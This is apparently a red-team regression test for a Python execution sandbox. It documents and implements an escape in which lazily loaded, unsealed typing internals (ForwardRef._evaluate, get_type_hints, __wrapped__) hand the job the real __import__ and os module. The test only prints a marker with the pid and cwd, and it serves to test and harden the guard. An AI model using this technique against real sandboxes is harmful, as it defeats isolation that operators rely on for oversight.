# (strict, exec isolation) The guard patches and seals a module when it is loaded before the
# job (a zygote's preload, the modules main.py's import statements name) or by one of the job's
# own imports. A job that imports only functools never loads typing itself: functools'
# singledispatch.register does, lazily (`from typing import get_type_hints`), from library
# code. typing was then neither patched nor sealed until the job's next import. The job gets a
# ForwardRef from typing's own code (get_type_hints turns the string arguments of a
# types.GenericAlias over the job's class into ForwardRefs and subscripts the class with them),
# rebinds ForwardRef._evaluate on the unsealed class, and lets the unpatched get_type_hints
# follow `__wrapped__` (a harmless dunder) to functools.wraps' globals, which it hands to
# _evaluate: the real builtins, the real __import__. Class: library code reached with the
# library's own objects after the job rebinds a library method (151), here through a patched
# module that library code loaded after the guard's last patch/seal.
# Found by an eighth red-team review (strict policy, exec isolation).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "165_lazy_typing_unsealed_forwardref"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools

got = []


class J:
    def __class_getitem__(cls, item):
        got.append(item)
        return int


def base(x):
    return "base"


dispatch = functools.singledispatch(base)
alias = type(list[int])(J, "x")  # get_type_hints makes J[ForwardRef('x')] of it


def first(x: alias):
    return 1


try:
    dispatch.register(first)  # imports typing now, from functools' code
except Exception:
    pass
ref = got[0][0] if isinstance(got[0], tuple) else got[0]


def evaluate(self, globalns, localns, *rest):
    real_os = globalns["__buil" + "tins__"]["__imp" + "ort__"]("os")
    won("os.getpid()=%s cwd=%s" % (real_os.getpid(), real_os.getcwd()))
    return int


type(ref)._evaluate = evaluate  # typing.ForwardRef, not sealed


def second(x: "int"):
    return 2


second.__wrapped__ = functools.wraps  # get_type_hints takes the globals of what it wraps
dispatch.register(second)
